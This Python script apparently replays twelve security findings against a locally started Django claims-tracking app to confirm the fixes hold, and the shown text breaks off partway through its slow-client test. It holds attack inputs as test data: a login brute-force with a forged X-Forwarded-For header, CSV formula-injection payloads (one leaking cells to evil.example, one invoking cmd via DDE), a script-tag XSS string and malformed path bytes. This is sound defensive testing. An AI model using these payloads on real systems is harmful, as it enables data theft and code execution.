"""Replays the twelve findings of "Hold under attack and fault" against real servers.

    .venv/bin/python bench/replay_findings.py [--admin-url postgres://postgres@127.0.0.1:5432/postgres]
                                              [--database ssb_replay] [--redis-url redis://127.0.0.1:6379/10]

Sets up everything itself, on 127.0.0.1 only: (re)creates the PostgreSQL database, migrates
it, loads the demo and adds an administrator and an editor; empties the Redis database
given; starts `make serve` (DEBUG=0, a generated SECRET_KEY, the Redis cache) twice: one
server as deployed behind the shipped nginx front (deploy/nginx/ssbtracker.conf, with
TRUSTED_PROXY_COUNT=1), one reached directly over plain HTTP; and for findings 6 and 11 the
servers and databases those need. Each finding's attack is then made as it was reported,
over HTTP (backups: with the management commands, on tampered files), and one line printed:

    #N <name>: PASS — <what happens now, with figures>      (or FAIL — ...)

Progress goes to stderr as it runs. Every process it started is stopped at the end; the exit
code is 1 if any finding fails. About three minutes. Ports 8781-8791.
"""

from __future__ import annotations

import argparse
import contextlib
import http.client
import json
import os
import re
import secrets
import shutil
import sys
import tempfile
import threading
import time
import traceback
import urllib.parse
import uuid
from dataclasses import dataclass, field
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

from editing import change_form, log_in, save, verdict, with_new_inline_claim  # noqa: E402
from harness import (  # noqa: E402
    ROOT,
    Server,
    database_url,
    ensure_database,
    log,
    manage,
)
from nginx_front import HOST, Nginx, Ports  # noqa: E402
from two_servers import Browser, form_fields  # noqa: E402

DIRECT_PORT = 8781  # plain HTTP, no proxy
FRONTED_PORT, DOWN_PORT = 8782, 8783  # behind nginx; the upstream's second server stays down
REDIS_DOWN_PORT = 8784  # finding 6: Redis unreachable
UNMIGRATED_PORT = 8785  # finding 6: an unmigrated SQLite database
NGINX_PORTS = Ports(https=8790, http=8791, app=FRONTED_PORT, second_app=DOWN_PORT)
UNREACHABLE_REDIS = "redis://127.0.0.1:1/0"
ADMIN, EDITOR = "replay-admin", "replay-editor"
HOSTILE_HTML = '<script>alert("x")</script><b>bold</b>'
ACCESS_LOG = (
    "--access-logfile - --access-logformat '%(h)s \"%(r)s\" %(s)s xff=%({x-forwarded-for}i)s'"
)


# --- the setting ----------------------------------------------------------------------------


@dataclass
class World:
    """What the findings are replayed against."""

    admin_url: str
    database: str
    redis_url: str
    env: dict
    password: str
    folder: Path
    direct: Server | None = None
    fronted: Server | None = None
    nginx: Nginx | None = None
    others: list = field(default_factory=list)

    @property
    def restore(self) -> str:
        """A database as `migrate` leaves it, for restoring backups into."""
        return f"{self.database}_restore"

    @property
    def url(self) -> str:
        return self.env["DATABASE_URL"]

    def query(self, sql: str, params: tuple = ()) -> list[tuple]:
        import psycopg

        with psycopg.connect(self.url) as conn:
            return conn.execute(sql, params).fetchall()

    def one(self, sql: str, params: tuple = ()):
        return self.query(sql, params)[0][0]

    def editor(self, user: str = EDITOR, base: str | None = None) -> Browser:
        browser = Browser(base or self.direct.url)
        log_in(browser, user, self.password)
        return browser

    def stop(self) -> None:
        for server in [*self.others, self.direct, self.fronted]:
            if server is not None:
                with contextlib.suppress(Exception):
                    server.stop()
        if self.nginx is not None:
            self.nginx.stop()


USERS_SCRIPT = """
from django.contrib.auth.models import Group, User
password = {password!r}
User.objects.create_superuser({admin!r}, "admin@ssbtracker.example", password)
editor = User.objects.create_user({editor!r}, "editor@ssbtracker.example", password, is_staff=True)
editor.groups.add(Group.objects.get(name="Editors"))
"""


def prepare(args) -> World:
    import redis

    password = secrets.token_urlsafe(16)
    folder = Path(tempfile.mkdtemp(prefix="ssb-replay-"))
    env = {
        "DATABASE_URL": database_url(args.admin_url, args.database),
        "REDIS_URL": args.redis_url,
        "SECRET_KEY": secrets.token_urlsafe(50),
        "DEBUG": "0",
    }
    world = World(args.admin_url, args.database, args.redis_url, env, password, folder)
    log(f"Database {args.database}: (re)creating, migrating, loading the demo")
    ensure_database(args.admin_url, args.database, recreate=True)
    manage("migrate", "--no-input", env=env)
    copy_database(args.admin_url, args.database, world.restore)
    manage("load_demo", env=env)
    manage(
        "shell",
        "-c",
        USERS_SCRIPT.format(password=password, admin=ADMIN, editor=EDITOR),
        env=env,
    )
    redis.Redis.from_url(args.redis_url).flushdb()
    return world


def copy_database(admin_url: str, source: str, name: str) -> None:
    """A copy of a database nobody is connected to (PostgreSQL's CREATE DATABASE ... TEMPLATE)."""
    import psycopg

    with psycopg.connect(admin_url, autocommit=True) as conn:
        conn.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')
        conn.execute(f'CREATE DATABASE "{name}" TEMPLATE "{source}"')


def start_servers(world: World) -> None:
    direct_env = {
        **world.env,
        "ALLOWED_HOSTS": "127.0.0.1",
        "BEHIND_TLS_PROXY": "0",
        "SECURE_SSL_REDIRECT": "0",
        "SECURE_COOKIES": "0",
        "GUNICORN_ARGS": ACCESS_LOG,
    }
    world.direct = Server(env=direct_env, port=DIRECT_PORT).start()
    log(f"Server {world.direct.url}: make serve, 2 workers, plain HTTP, Redis {world.redis_url}")
    fronted_env = {
        **world.env,
        "ALLOWED_HOSTS": f"{HOST},127.0.0.1",
        "TRUSTED_PROXY_COUNT": "1",
        "GUNICORN_ARGS": ACCESS_LOG,
    }
    world.fronted = Server(env=fronted_env, port=FRONTED_PORT).start()
    nginx_folder = world.folder / "nginx"
    nginx_folder.mkdir()
    world.nginx = Nginx(nginx_folder, ports=NGINX_PORTS, static_root=ROOT / "staticfiles")
    checked = world.nginx.check()
    if checked.returncode:
        raise RuntimeError(checked.stderr)
    world.nginx.start()
    log(
        f"Server {world.fronted.url} (TRUSTED_PROXY_COUNT=1) behind nginx "
        f"https://{HOST}:{NGINX_PORTS.https} (deploy/nginx/ssbtracker.conf)"
    )


# --- HTTP helpers ---------------------------------------------------------------------------


class FrontClient:
    """A browser reaching the site through nginx over HTTPS, from a loopback address of its own."""

    def __init__(self, nginx: Nginx, source: str):
        self.nginx = nginx
        self.source = source
        self.cookies: dict[str, str] = {}

    def request(self, method: str, path: str, data=None, headers=None):
        body = urllib.parse.urlencode(data).encode() if data is not None else None
        sent = {"Cookie": "; ".join(f"{k}={v}" for k, v in self.cookies.items())}
        if data is not None:
            sent |= {
                "Content-Type": "application/x-www-form-urlencoded",
                "Referer": f"https://{HOST}{path}",
            }
        status, response_headers, text = self.nginx.request(
            method, path, headers={**sent, **(headers or {})}, body=body, source=self.source
        )
        for cookie in response_headers.get_all("Set-Cookie") or []:
            name, value = cookie.split(";", 1)[0].split("=", 1)
            self.cookies[name] = value
        return status, text.decode(errors="replace")

    def log_in(self, user: str, password: str, headers=None) -> tuple[int, str]:
        if "csrftoken" not in self.cookies:
            self.request("GET", "/admin/login/")
        return self.request(
            "POST",
            "/admin/login/?next=/admin/",
            [
                ("csrfmiddlewaretoken", self.cookies["csrftoken"]),
                ("username", user),
                ("password", password),
                ("next", "/admin/"),
            ],
            headers=headers,
        )


def raw(port: int, method: str, target: str, headers=None) -> tuple[int, dict, bytes]:
    """One request with the request target sent byte for byte as given (headers: Host too)."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        connection.putrequest(method, target, skip_host=True, skip_accept_encoding=True)
        for name, value in (headers or {}).items():
            connection.putheader(name, value)
        connection.endheaders()
        response = connection.getresponse()
        return response.status, dict(response.getheaders()), response.read()
    finally:
        connection.close()


def post_multipart(browser: Browser, path: str, fields: dict, files: dict):
    boundary = uuid.uuid4().hex
    parts = []
    for name, value in fields.items():
        parts.append(
            f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode()
        )
    for name, (filename, content) in files.items():
        parts.append(
            f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; '
            f'filename="{filename}"\r\nContent-Type: text/csv\r\n\r\n'.encode()
            + content
            + b"\r\n"
        )
    body = b"".join(parts) + f"--{boundary}--\r\n".encode()
    import urllib.request

    request = urllib.request.Request(
        browser.base + path,
        data=body,
        headers={
            "Content-Type": f"multipart/form-data; boundary={boundary}",
            "Referer": browser.base + path,
        },
    )
    try:
        with browser.opener.open(request, timeout=300) as response:
            return response.status, response.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode()


# --- the findings ---------------------------------------------------------------------------


class Failed(Exception):
    """A finding's replay found the old behaviour (or a new fault)."""


def expect(condition: bool, message: str) -> None:
    if not condition:
        raise Failed(message)


def finding_1_lockout(world: World) -> str:
    """5 wrong passwords from one client behind the proxy locked out every editor."""
    nginx = world.nginx
    attacker = FrontClient(nginx, "127.0.0.2")
    statuses = [attacker.log_in(EDITOR, "wrong-password")[0] for _ in range(5)]
    # The fifth failure locks the account from this address: its answer is the lock-out.
    expect(statuses == [200] * 4 + [429], f"wrong passwords answered {statuses}")
    # The sixth, with the right password and a forged X-Forwarded-For (nginx replaces it).
    locked, page = attacker.log_in(
        EDITOR, world.password, headers={"X-Forwarded-For": "198.51.100.9"}
    )
    expect(locked == 429, f"the 6th attempt (right password) answered {locked}, not 429")
    wording = re.search(r"Try again in ([^.<]+)", page)
    expect(wording is not None and "PT" not in page, "the lock-out page does not say how long")
    # The editor, from another address behind the same proxy, logs in.
    editor = FrontClient(nginx, "127.0.0.3")
    status, _ = editor.log_in(EDITOR, world.password)
    expect(status == 302, f"the editor from 127.0.0.3 got {status}, not logged in")
    admin_status, _ = editor.request("GET", "/admin/")
    expect(admin_status == 200, f"/admin/ answered {admin_status} to the editor")
    # The app saw the clients' addresses, one proxy from the right.
    app_log = world.fronted.log_path.read_text()
    seen = sorted(set(re.findall(r"xff=(127\.0\.0\.\d)", app_log)))
    return (
        f"attacker 127.0.0.2 via nginx: 5 wrong passwords -> {', '.join(map(str, statuses))}; 6th (right "
        f"password, forged X-Forwarded-For) -> {locked} 'Try again in {wording.group(1)}'; "
        f"editor 127.0.0.3 via the same nginx -> {status} logged in, /admin/ {admin_status} "
        f"(app saw X-Forwarded-For {', '.join(seen)})"
    )


def a_milestone_with_claims(world: World, offset: int = 0) -> tuple[int, int]:
    """(milestone id, one of its claims' id): milestones with at least two claims, in turn."""
    return world.query(
        """
        SELECT milestone_id, min(id) FROM claims_claim GROUP BY milestone_id
        HAVING count(*) >= 2 ORDER BY milestone_id OFFSET %s LIMIT 1
        """,
        (offset,),
    )[0]


def at_once(*saves) -> list:
    """Each (browser, model, pk, fields) saved from its own thread, released together."""
    barrier = threading.Barrier(len(saves))
    results: list = [None] * len(saves)

    def post(i, browser, model, pk, fields):
        barrier.wait(timeout=10)
        results[i] = save(browser, model, pk, fields)

    threads = [threading.Thread(target=post, args=(i, *args)) for i, args in enumerate(saves)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=120)
    return results


def deadlocks(world: World) -> int:
    return world.one("SELECT deadlocks FROM pg_stat_database WHERE datname = %s", (world.database,))


def finding_2_deadlock(world: World, rounds: int = 6) -> str:
    """Saving a milestone while another editor saves one of its claims: deadlock, 500."""
    first, second = world.editor(ADMIN), world.editor(EDITOR)
    before = deadlocks(world)
    outcomes: list[tuple[str, str]] = []
    slowest = 0.0
    for n in range(rounds):
        milestone, claim = a_milestone_with_claims(world, offset=n % 3)
        milestone_form = change_form(
            first,
            "milestone",
            milestone,
            description=f"Saved in round {n} ({secrets.token_hex(3)}).",
        )
        claim_form = change_form(second, "claim", claim, speaker=f"Speaker of round {n}")
        results = at_once(
            (first, "milestone", milestone, milestone_form), (second, "claim", claim, claim_form)
        )
        expect(all(results), f"round {n}: a save never answered")
        outcomes.append(tuple(verdict(status, text) for status, _, text in results))
        slowest = max(slowest, *(seconds for _, seconds, _ in results))
        log(f"  round {n + 1}: milestone {outcomes[-1][0]}, claim {outcomes[-1][1]}")
    errors = [o for o in outcomes if any(v.startswith("error") for v in o)]
    both = sum(o == ("saved", "saved") for o in outcomes)
    new_deadlocks = deadlocks(world) - before
    expect(not errors, f"{len(errors)} of {rounds} rounds had a server error: {errors}")
    expect(new_deadlocks == 0, f"PostgreSQL counted {new_deadlocks} deadlocks")
    return (
        f"{rounds} rounds of milestone + one of its claims saved at once by two editors: "
        f"both saved in {both}, {rounds - both} with a save refused with its reason, 0 errors; "
        f"PostgreSQL deadlocks +{new_deadlocks}; slowest save {slowest:.2f} s"
    )


def finding_3_revert(world: World) -> str:
    """Every "Revert" in history was a 500."""
    browser = world.editor(ADMIN)
    records = {
        "claim": ("speaker", world.one("SELECT max(id) FROM claims_claim")),
        "milestone": ("title", world.one("SELECT max(id) FROM claims_milestone")),
        "company": ("description", world.one("SELECT max(id) FROM claims_company")),
        "source": ("title", world.one("SELECT max(id) FROM claims_source")),
        "facility": ("city", world.one("SELECT max(id) FROM claims_facility")),
    }
    done = []
    for model, (field_name, pk) in records.items():
        old = world.one(f"SELECT {field_name} FROM claims_{model} WHERE id = %s", (pk,))
        status, _, text = save(
            browser, model, pk, change_form(browser, model, pk, **{field_name: "Changed to revert"})
        )
        expect(status == 302, f"editing the {model} answered {verdict(status, text)}")
        history = browser.request(f"/admin/claims/{model}/{pk}/history/")
        ids = sorted(
            int(i) for i in re.findall(rf"/admin/claims/{model}/{pk}/history/(\d+)/", history.text)
        )
        expect(len(ids) >= 2, f"the {model}'s history lists {len(ids)} versions")
        path = f"/admin/claims/{model}/{pk}/history/{ids[0]}/"
        page = browser.request(path)
        expect(page.status == 200, f"the {model}'s revert page answered {page.status}")
        # The revert page's form is named after the history model.
        fields = form_fields(page.text, f"historical{model}_form")
        response = browser.request(path, [*fields, ("_save", "Save")])
        expect(
            response.status == 302,
            f"reverting the {model} answered {verdict(response.status, response.text)}",
        )
        now = world.one(f"SELECT {field_name} FROM claims_{model} WHERE id = %s", (pk,))
        expect(now == old, f"the reverted {model}'s {field_name} is {now!r}, not {old!r}")
        done.append(model)
    return f"edited then reverted to the first version through the admin's history: {', '.join(done)}: each 302, old value back"


def finding_4_stale_check(world: World) -> str:
    """An empty or missing version skipped the stale-edit check; an inline claim added with an
    empty version was a 500."""
    me, other = world.editor(ADMIN), world.editor(EDITOR)
    milestone, claim = a_milestone_with_claims(world, offset=4)
    mine = change_form(me, "milestone", milestone, title="My title")
    theirs = change_form(other, "milestone", milestone, title="Another editor's title")
    expect(save(other, "milestone", milestone, theirs)[0] == 302, "the other editor's save failed")
    results = {}
    for label, fields in (
        ("empty version", [(k, "" if k == "version" else v) for k, v in mine]),
        ("no version", [(k, v) for k, v in mine if k != "version"]),
        ("old version", mine),
    ):
        status, _, text = save(me, "milestone", milestone, fields)
        results[label] = verdict(status, text)
    title = world.one("SELECT title FROM claims_milestone WHERE id = %s", (milestone,))
    expect(
        title == "Another editor's title", f"the other editor's title was overwritten: {title!r}"
    )
    expect(all(v.startswith("refused") for v in results.values()), f"stale posts: {results}")
    # An inline claim changed with its version emptied: refused.
    fields = change_form(me, "milestone", milestone)
    prefix = next(k for k, v in fields if k.endswith("-id") and v == str(claim)).removesuffix("-id")
    speaker = world.one("SELECT speaker FROM claims_claim WHERE id = %s", (claim,))
    changed = [
        (k, "Not saved" if k == f"{prefix}-speaker" else "" if k == f"{prefix}-version" else v)
        for k, v in fields
    ]
    inline_changed = verdict(*save(me, "milestone", milestone, changed)[::2])
    expect(
        world.one("SELECT speaker FROM claims_claim WHERE id = %s", (claim,)) == speaker,
        "an inline claim without its version was saved",
    )
    # A new inline claim, its version empty as the blank row has it: saved.
    fields = change_form(me, "milestone", milestone)
    source = world.one("SELECT min(id) FROM claims_source")
    row = {"kind": "announcement", "stated_on": "2024-03-15", "target_text": "2027",
           "source": str(source), "speaker": "Replay speaker", "version": ""}  # fmt: skip
    new = with_new_inline_claim(fields, **row)
    before = world.one("SELECT count(*) FROM claims_claim WHERE milestone_id = %s", (milestone,))
    status, _, text = save(me, "milestone", milestone, new)
    after = world.one("SELECT count(*) FROM claims_claim WHERE milestone_id = %s", (milestone,))
    expect(status == 302 and after == before + 1, f"new inline claim: {verdict(status, text)}")
    return (
        "milestone posted after another editor's save with "
        + ", ".join(f"{k} -> {v}" for k, v in results.items())
        + f", their title kept; changed inline claim with empty version -> {inline_changed}; "
        f"new inline claim with empty version -> {status} saved (claims {before} -> {after})"
    )


IMPORT_FILE_SCRIPT = """
import sys
sys.path.insert(0, "bench")
from import_speed import claims_file
open({path!r}, "w", encoding="utf-8").write(claims_file({rows}))
"""


def finding_5_import(world: World, rows: int = 5000) -> str:
    """5,000 rows: preview > 10 s, confirm posted the whole text back, long row locks."""
    path = world.folder / "import.csv"
    manage("shell", "-c", IMPORT_FILE_SCRIPT.format(path=str(path), rows=rows), env=world.env)
    content = path.read_bytes()
    importer, other = world.editor(ADMIN), world.editor(EDITOR)
    importer.request("/admin/claims/source/import/")
    log(f"  previewing {rows} rows ({len(content) / 1e6:.2f} MB)")
    start, cpu = time.perf_counter(), cpu_seconds(world.direct)
    status, page = post_multipart(
        importer,
        "/admin/claims/source/import/",
        {"csrfmiddlewaretoken": importer.csrf_token()},
        {"file": ("claims.csv", content)},
    )
    preview, preview_cpu = time.perf_counter() - start, cpu_seconds(world.direct) - cpu
    counts = re.search(r"(\d+) rows: (\d+) to create", page)
    token = re.search(r'name="token" value="([^"]+)"', page)
    expect(status == 200 and counts and token, f"the preview answered {status} without a token")
    expect(int(counts.group(2)) == rows, f"the preview found {counts.group(0)}")
    claims_before = world.one("SELECT count(*) FROM claims_claim")
    # Another editor saves a claim while the confirmation runs (every milestone is in the file).
    _, claim = a_milestone_with_claims(world, offset=5)
    confirm_fields = [
        ("csrfmiddlewaretoken", importer.csrf_token()),
        ("token", token.group(1)),
        ("confirm", "Confirm import"),
    ]
    confirm_bytes = len(urllib.parse.urlencode(confirm_fields))
    result: dict = {}

    def confirm():
        begun = time.perf_counter()
        response = importer.request("/admin/claims/source/import/", confirm_fields)
        result["confirm"] = (response.status, time.perf_counter() - begun)

    log("  confirming, while another editor saves a claim again and again")
    thread = threading.Thread(target=confirm)
    thread.start()
    waits, refusals = [], []
    while thread.is_alive():
        time.sleep(0.3)
        form = change_form(other, "claim", claim, speaker=f"Saved during the import {len(waits)}")
        status_other, waited, text_other = save(other, "claim", claim, form)
        waits.append(waited)
        if status_other != 302:
            refusals.append(verdict(status_other, text_other))
    thread.join()
    confirm_status, confirm_seconds = result.get("confirm", (0, 0.0))
    added = world.one("SELECT count(*) FROM claims_claim") - claims_before
    expect(
        confirm_status == 302 and added == rows,
        f"confirm answered {confirm_status}, {added} claims added",
    )
    expect(waits and not refusals, f"the other editor's saves: {refusals}")
    # The machine may be shared: the workers' CPU time is the figure that load does not move.
    expect(preview_cpu < 10, f"the preview took {preview_cpu:.1f} s of CPU ({preview:.1f} s)")
    return (
        f"{rows} rows, {len(content) / 1e6:.2f} MB: preview {preview:.1f} s ({preview_cpu:.1f} s "
        f"of app CPU); confirm posts "
        f"{confirm_bytes} bytes (its token) and took {confirm_seconds:.1f} s, {added} claims "
        f"added; another editor saving a claim throughout it: {len(waits)} saves, all 302, "
        f"longest {max(waits):.2f} s, median {sorted(waits)[len(waits) // 2]:.2f} s"
    )


def cpu_seconds(server: Server) -> float:
    """CPU time used so far by a server's gunicorn workers (user + system)."""
    ticks = os.sysconf("SC_CLK_TCK")
    total = 0
    for pid in server.worker_pids():
        with contextlib.suppress(OSError):
            fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
            total += int(fields[11]) + int(fields[12])
    return total / ticks


def finding_6_redis_down(world: World) -> str:
    """Redis down = site down, /healthz said healthy; healthy on an unmigrated database too."""
    env = {
        **world.direct.env,
        "REDIS_URL": UNREACHABLE_REDIS,
        "GUNICORN_ARGS": "",
    }
    server = Server(env=env, port=REDIS_DOWN_PORT)
    world.others.append(server)
    server.start()
    log(f"  {server.url}: make serve with REDIS_URL={UNREACHABLE_REDIS}")
    slug = world.one("SELECT slug FROM claims_company ORDER BY id LIMIT 1")
    browser = Browser(server.url)
    timings = []
    for path in ("/", "/milestones/", f"/companies/{slug}/", "/api/milestones",
                 "/milestones/?format=csv", "/calendar.ics"):  # fmt: skip
        start = time.perf_counter()
        response = browser.request(path)
        timings.append((path, response.status, time.perf_counter() - start))
    bad = [t for t in timings if t[1] != 200]
    expect(not bad, f"with Redis unreachable: {bad}")
    health = browser.request("/healthz")
    body = json.loads(health.text)
    expect(
        health.status == 200 and body["cache"] == "unreachable", f"/healthz {health.status} {body}"
    )
    editor = Browser(server.url)
    log_in(editor, EDITOR, world.password)
    _, claim = a_milestone_with_claims(world, offset=6)
    status, seconds, text = save(
        editor, "claim", claim, change_form(editor, "claim", claim, speaker="Saved without Redis")
    )
    expect(status == 302, f"a claim saved with Redis unreachable: {verdict(status, text)}")
    server.stop()
    warnings = server.log_path.read_text().count("does not answer")
    # /healthz on a fresh, unmigrated SQLite database.
    sqlite = world.folder / "unmigrated.sqlite3"
    fresh = Server(
        env={**env, "DATABASE_URL": f"sqlite:///{sqlite}", "REDIS_URL": ""}, port=UNMIGRATED_PORT
    )
    world.others.append(fresh)
    fresh.start()
    unmigrated = Browser(fresh.url).request("/healthz")
    fresh.stop()
    fresh_body = json.loads(unmigrated.text)
    expect(
        unmigrated.status == 503,
        f"/healthz on an unmigrated database: {unmigrated.status} {fresh_body}",
    )
    slowest = max(t[2] for t in timings)
    return (
        f"Redis unreachable: {', '.join(f'{p} {s}' for p, s, _ in timings)} (slowest "
        f"{slowest:.2f} s); /healthz {health.status} cache={body['cache']}; claim saved through the "
        f"admin {status} in {seconds:.2f} s; cache warnings logged: {warnings} (at most one a minute per worker). Unmigrated "
        f"SQLite: /healthz {unmigrated.status} migrations={fresh_body['migrations']!r}"
    )


def finding_7_csv(world: World) -> str:
    """CSV formula injection in exports."""
    browser = world.editor(ADMIN)
    milestone, _ = a_milestone_with_claims(world, offset=7)
    company = world.one(
        "SELECT c.slug FROM claims_company c JOIN claims_milestone m ON m.company_id = c.id WHERE m.id = %s",
        (milestone,),
    )
    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
    status, _, text = save(
        browser, "milestone", milestone, change_form(browser, "milestone", milestone, title=formula)
    )
    expect(status == 302, f"saving the formula title: {verdict(status, text)}")
    source = world.one("SELECT min(id) FROM claims_source")
    source_formula = "@SUM(1+1)*cmd|' /C calc'!A0"
    status, _, text = save(
        browser, "source", source, change_form(browser, "source", source, title=source_formula)
    )
    expect(status == 302, f"saving the formula source title: {verdict(status, text)}")
    import csv
    import io

    milestones = Browser(world.direct.url).request(f"/milestones/?company={company}&format=csv")
    cells = [c for row in csv.reader(io.StringIO(milestones.text)) for c in row if "HYPERLINK" in c]
    sources = Browser(world.direct.url).request("/sources/?format=csv")
    source_cells = [
        c for row in csv.reader(io.StringIO(sources.text)) for c in row if "SUM(1+1)" in c
    ]
    expect(cells and all(c.startswith("'=") for c in cells), f"milestones CSV cells: {cells}")
    expect(
        source_cells and all(c.startswith("'@") for c in source_cells),
        f"sources CSV cells: {source_cells}",
    )
    return (
        f"title {formula[:20]}… exported as {cells[0][:22]}… in /milestones/?format=csv, "
        f"source title {source_formula[:9]}… as {source_cells[0][:10]}… in /sources/?format=csv"
    )


def finding_8_feeds(world: World) -> str:
    """Atom feeds served editor text as HTML."""
    browser = world.editor(ADMIN)
    claim, company = world.query(
        """
        SELECT c.id, co.slug FROM claims_claim c JOIN claims_milestone m ON m.id = c.milestone_id
        JOIN claims_company co ON co.id = m.company_id
        WHERE c.stated_on_latest <= CURRENT_DATE  -- the feed lists only claims known by today
        ORDER BY c.stated_on_latest DESC, c.id DESC LIMIT 1
        """
    )[0]
    status, _, text = save(
        browser, "claim", claim, change_form(browser, "claim", claim, quote=HOSTILE_HTML)
    )
    expect(status == 302, f"saving the quote: {verdict(status, text)}")
    results = []
    for path in ("/feeds/claims/", f"/companies/{company}/feed/"):
        feed = Browser(world.direct.url).request(path)
        summaries = re.findall(r"<summary([^>]*)>([^<]*alert[^<]*)</summary>", feed.text)
        expect(feed.status == 200 and summaries, f"{path}: {feed.status}, the quote not found")
        attributes, summary = summaries[0]
        expect('type="text"' in attributes, f"{path}: summary{attributes}")
        expect(
            "<script" not in feed.text and "&lt;script&gt;" in summary,
            f"{path}: raw HTML in the feed",
        )
        results.append(f"{path} {feed.status}")
    return (
        f"a quote of {HOSTILE_HTML[:17]}… is in {', '.join(results)} as "
        f'<summary type="text"> with the tags escaped (&lt;script&gt;), no HTML summary'
    )


def finding_9_nul(world: World) -> str:
    """A NUL byte in an API path was a 500."""
    port = world.direct.port
    results = []
    for target in ("/api/companies/%00", "/api/milestones?country=%00", "/companies/%00/",
                   "/companies/%FF/", "/milestones/?q=%C0%AF"):  # fmt: skip
        status, headers, body = raw(port, "GET", target, {"Host": "127.0.0.1"})
        expect(status == 400, f"{target}: {status}")
        if target.startswith("/api/"):
            expect(
                headers.get("Content-Type", "").startswith("application/json"),
                f"{target}: not JSON",
            )
        results.append(f"{target} {status}{' JSON' if target.startswith('/api/') else ''}")
    return ", ".join(results)


def finding_10_head(world: World) -> str:
    """HEAD answered 405."""
    port = world.direct.port
    slug = world.one("SELECT slug FROM claims_company ORDER BY id LIMIT 1")
    results = []
    for path in ("/", f"/companies/{slug}/", "/milestones/?format=csv", "/api/milestones",
                 "/feeds/claims/", "/calendar.ics", "/healthz"):  # fmt: skip
        head = raw(port, "HEAD", path, {"Host": "127.0.0.1"})
        get = raw(port, "GET", path, {"Host": "127.0.0.1"})
        expect(head[0] == get[0] == 200, f"HEAD {path}: {head[0]} (GET {get[0]})")
        expect(head[2] == b"", f"HEAD {path} carried {len(head[2])} body bytes")
        length = head[1].get("Content-Length")
        expect(
            length in (None, str(len(get[2]))),
            f"HEAD {path}: Content-Length {length} vs {len(get[2])}",
        )
        results.append(path)
    return f"HEAD of {len(results)} URLs ({', '.join(results)}): 200 as GET, no body, GET's Content-Length"


#: Reseal some files (what someone who knows the format would do after changing one), then
#: run import_all on each; print the error of each as JSON (null: it was restored).
ATTEMPTS_SCRIPT = """
import json
from django.core.management import CommandError, call_command
from claims.backup import checksum
answers = []
for label, path, reseal in {files!r}:
    if reseal:
        document = json.load(open(path))
        document["checksum"] = checksum(document["objects"])
        json.dump(document, open(path, "w"))
    try:
        call_command("import_all", path)
    except CommandError as error:
        answers.append(str(error))
    else:
        answers.append(None)
print(json.dumps(answers))
"""


def _first(document, model):
    return next(o for o in document["objects"] if o["model"] == model)


def _editor(document):
    return next(
        o
        for o in document["objects"]
        if o["model"] == "auth.user" and not o["fields"]["is_superuser"]
    )


TAMPERINGS = [
    ("a claim dropped", False, lambda d: d["objects"].remove(_first(d, "claims.claim"))),
    ("an editor made superuser", False, lambda d: _editor(d)["fields"].update(is_superuser=True)),
    ("a claim dropped, resealed", True, lambda d: d["objects"].remove(_first(d, "claims.claim"))),
    ("a claim's source broken, resealed", True, lambda d: _first(d, "claims.claim")["fields"].update(source=999_999)),
    ("a date garbled, resealed", True, lambda d: _first(d, "claims.claim")["fields"].update(stated_on="not a date")),
]  # fmt: skip


def finding_11_backups(world: World) -> str:
    """Backups not a full round trip; tampered files restored."""
    backup = world.folder / "backup.json"
    start = time.perf_counter()
    manage("export_all", str(backup), env=world.env)
    exported = time.perf_counter() - start
    original = json.loads(backup.read_text())
    log(f"  export_all: {len(original['objects'])} objects in {exported:.1f} s")
    # A freshly migrated, empty database: the copy made of this one before the demo was loaded.
    restore_env = {**world.env, "DATABASE_URL": database_url(world.admin_url, world.restore)}

    def counts() -> tuple[int, int]:
        import psycopg

        with psycopg.connect(restore_env["DATABASE_URL"]) as conn:
            return tuple(
                conn.execute(f"SELECT count(*) FROM {t}").fetchone()[0]
                for t in ("claims_claim", "auth_user")
            )

    expect(counts() == (0, 0), f"{world.restore} is not empty: {counts()}")
    files = []
    for n, (label, reseal, change) in enumerate(TAMPERINGS):
        document = json.loads(json.dumps(original))
        change(document)
        path = world.folder / f"tampered-{n}.json"
        path.write_text(json.dumps(document))
        files.append((label, str(path), reseal))
    # One process reseals the files and runs import_all on each (a process each: 5 s more
    # apiece on a busy machine, for nothing that differs).
    step = time.perf_counter()
    result = manage("shell", "-c", ATTEMPTS_SCRIPT.format(files=files), env=restore_env)
    answers = json.loads(result.stdout.strip().splitlines()[-1])
    log(f"  import_all on {len(files)} tampered files: {time.perf_counter() - step:.1f} s")
    refused = []
    for (label, _, _), message in zip(files, answers, strict=True):
        expect(message is not None, f"{label}: restored")
        expect("Nothing was changed" in message, f"{label}: {message}")
        refused.append(label)
    expect(counts() == (0, 0), f"the database holds {counts()} rows after the refusals")
    step = time.perf_counter()
    result = manage("import_all", str(backup), env=restore_env, check=False)
    log(
        f"  import_all, the untouched file: exit {result.returncode} in {time.perf_counter() - step:.1f} s"
    )
    expect(result.returncode == 0, f"the untouched file: {result.stderr[-500:]}")
    again = world.folder / "again.json"
    manage("export_all", str(again), env=restore_env)
    second = json.loads(again.read_text())
    expect(second["checksum"] == original["checksum"], "the restored database exports differently")
    expect(second["counts"] == original["counts"], "the restored counts differ")
    return (
        f"export_all {len(original['objects'])} objects in {exported:.1f} s; {len(refused)} "
        f"tampered files refused, nothing changed ({'; '.join(refused)}); the untouched file "
        f"restored into a fresh database, whose export has the same checksum and counts "
        f"({sum(original['counts'].values())} rows in {len(original['counts'])} tables)"
    )


def finding_12_slow_clients(world: World, slow: int = 16) -> str:
    """Slow clients starved the workers; a 100 MB multipart POST to the log-in page was accepted."""
    nginx = world.nginx
    sockets = []
    for n in range(slow):
        sock = nginx.tls_socket(source="127.0.0.5")
        sock.sendall(f"GET /?slow={n} HTTP/1.1\r\nHost: {HOST}\r\n".encode())
        sockets.append(sock)
    stop = threading.Event()
    closed: set[int] = set()

    def dribble():
        while not stop.wait(1):
            for n, sock in enumerate(sockets):
                if n in closed:
                    continue
                try:
                    sock.sendall(b"x")
                except OSError:
                    closed.add(n)

    dribbling_since = time.monotonic()
    dribbler = threading.Thread(target=dribble, daemon=True)
